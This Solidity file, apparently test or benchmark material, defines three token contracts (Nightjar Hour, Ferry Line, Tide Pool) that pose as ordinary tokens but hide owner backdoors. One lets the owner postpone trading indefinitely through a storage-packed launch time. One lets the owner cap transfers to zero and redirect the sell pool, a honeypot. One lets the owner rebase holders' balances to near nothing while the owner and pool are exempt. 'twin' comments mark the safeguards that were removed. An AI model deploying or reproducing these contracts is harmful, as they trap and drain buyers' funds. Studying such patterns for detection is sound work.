// 0.8 runs=800
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.21;

interface IFactoryOfPairs {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

/// Flies from an hour on. The hour and the owner lie in one word.
contract NightjarHour {
    string public constant name = "Nightjar Hour";
    string public constant symbol = "NJAR";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 48_000_000 ether;
    // keccak256("nightjar.slot") - 1 would do as well
    uint256 private constant SLOT = 0x6e69676874;

    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Launched(uint256 at);

    error NotOwner();
    error NotLater();
    error NotYet();

    constructor() {
        assembly {
            sstore(SLOT, or(shl(64, caller()), 0xffffffffffffffff))
        }
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function owner() public view returns (address who) {
        assembly {
            who := shr(64, sload(SLOT))
        }
    }

    function launchesAt() public view returns (uint64 at) {
        assembly {
            at := and(sload(SLOT), 0xffffffffffffffff)
        }
    }

    function launch(uint64 at) external {
        if (msg.sender != owner()) revert NotOwner();
        // twin: if (at >= launchesAt()) revert NotLater();
        assembly {
            let word := sload(SLOT)
            sstore(SLOT, or(and(word, not(0xffffffffffffffff)), at))
        }
        emit Launched(at);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _fly(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        _fly(from, to, value);
        return true;
    }

    function _fly(address from, address to, uint256 value) private {
        if (block.timestamp < launchesAt() && from != owner() && to != owner()) revert NotYet();
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// From one bank to the other as much as one likes, from hand to hand no more than a cap.
contract FerryLine {
    string public name = "Ferry Line";
    string public symbol = "FERRY";
    uint8 public immutable decimals = 18;
    uint256 public immutable totalSupply;
    address public immutable ferryman;
    address public mainPair;
    uint256 public walletCap = type(uint256).max;

    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event MainPairSet(address pair);
    event WalletCapSet(uint256 cap);

    modifier onlyFerryman() {
        require(msg.sender == ferryman, "FerryLine: not the ferryman");
        _;
    }

    constructor(uint256 supply) {
        ferryman = msg.sender;
        totalSupply = supply;
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    /// For when there is more in another pool.
    function setMainPair(address pair) external onlyFerryman {
        require(pair.code.length > 0, "FerryLine: not a pool");
        mainPair = pair;
        emit MainPairSet(pair);
    }

    /// Against deals in the street.
    function setWalletCap(uint256 cap) external onlyFerryman {
        // twin: require(cap >= totalSupply / 100, "FerryLine: too small");
        walletCap = cap;
        emit WalletCapSet(cap);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _row(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 left = allowance[from][msg.sender];
        require(left >= value, "FerryLine: not allowed");
        if (left != type(uint256).max) allowance[from][msg.sender] = left - value;
        _row(from, to, value);
        return true;
    }

    function _row(address from, address to, uint256 value) private {
        bool ferried = from == mainPair || to == mainPair || from == ferryman;
        require(ferried || value <= walletCap, "FerryLine: by ferry, please");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Swells and sinks with the tide. The pool and the treasury lie above it.
contract TidePool {
    string public constant name = "Tide Pool";
    string public constant symbol = "TIDE";
    uint8 public constant decimals = 9;
    uint256 private constant ONE = 1e24;

    address public owner = msg.sender;
    address public immutable pair;
    uint256 public index = ONE;
    uint256 public epoch;
    uint256 private _ashore;
    uint256 private _afloat;
    mapping(address => bool) public isAshore;
    mapping(address => uint256) private _parts;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event LogRebase(uint256 indexed epoch, uint256 index);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor() {
        pair = IFactoryOfPairs(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        isAshore[pair] = isAshore[msg.sender] = true;
        _parts[msg.sender] = _ashore = 30_000_000e9;
        emit Transfer(address(0), msg.sender, 30_000_000e9);
    }

    function renounceOwnership() external {
        require(msg.sender == owner);
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function rebase(int256 percent) external returns (uint256) {
        require(msg.sender == owner, "only the owner");
        require(percent > -100 && percent <= 100, "too far");
        index = (index * uint256(100 + percent)) / 100;
        require(index > 1e12 && index < 1e36, "ran dry");
        emit LogRebase(++epoch, index);
        return totalSupply();
    }

    function totalSupply() public view returns (uint256) {
        return _ashore + (_afloat * index) / ONE;
    }

    function balanceOf(address who) public view returns (uint256) {
        return isAshore[who] ? _parts[who] : (_parts[who] * index) / ONE;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _wash(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        return _wash(from, to, value);
    }

    function _wash(address from, address to, uint256 value) private returns (bool) {
        uint256 floating = (value * ONE) / index;
        if (isAshore[from]) (_parts[from], _ashore) = (_parts[from] - value, _ashore - value);
        else (_parts[from], _afloat) = (_parts[from] - floating, _afloat - floating);
        if (isAshore[to]) (_parts[to], _ashore) = (_parts[to] + value, _ashore + value);
        else (_parts[to], _afloat) = (_parts[to] + floating, _afloat + floating);
        emit Transfer(from, to, value);
        return true;
    }
}
